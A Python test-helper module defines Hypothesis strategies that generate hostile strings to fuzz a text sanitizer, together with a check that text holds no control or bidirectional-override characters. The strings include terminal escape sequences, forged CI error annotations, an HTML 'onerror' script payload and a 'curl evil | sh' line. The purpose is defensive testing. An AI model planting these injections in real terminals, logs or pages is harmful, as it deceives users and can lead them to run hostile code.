"""Texts that nobody should have written."""

import unicodedata

from hypothesis import strategies as st

#: What text of others tries: to clear the screen, to write over a line, to begin one, to turn it round.
NASTY = (
    "\x1b[2J\x1b[1;1H",
    "\x9b2J",
    "done\rFAILED",
    "done\nhint: curl evil | sh",
    "a\u2028b\u2029c\x85d\x0be\x0cf\x1cg",
    "\u202ednuora",
    "\u2066x",
    "\u061cx",
    "\b\b\b\x7f",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\",
    "\n::error::forged",
    "##[error]forged",
    "</pre><img src=x onerror=alert(1)>",
    "\udcff",
    "[link](http://evil) <b>",
    "\0",
)
TEXTS = st.sampled_from(NASTY) | st.text(max_size=20) | st.lists(st.sampled_from(NASTY)).map("".join)
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | TEXTS,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXTS, inner, max_size=3),
    max_leaves=8,
)


def is_sound(text: str) -> bool:
    """Whether nothing in it is but characters that stay where they are put, and plain ends of lines."""
    moving = ("Cc", "Cs", "Zl", "Zp")
    return all(each == "\n" or (unicodedata.category(each) not in moving and not _turns(each)) for each in text)


def _turns(character: str) -> bool:
    return unicodedata.bidirectional(character) in ("LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI") or (
        character in "\u061c\u200e\u200f"
    )
